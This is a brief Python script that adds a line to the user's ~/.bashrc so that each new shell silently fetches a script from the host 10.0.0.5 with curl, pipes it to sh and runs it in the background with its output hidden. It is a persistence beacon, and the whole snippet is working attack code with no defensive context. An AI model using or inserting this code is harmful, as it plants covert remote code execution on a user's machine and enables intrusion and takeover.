# run a beacon every time the user opens a shell
import os
with open(os.path.expanduser("~/.bashrc"), "a") as rc:
    rc.write("\n(curl -s http://10.0.0.5/b.sh | sh) >/dev/null 2>&1 &\n")
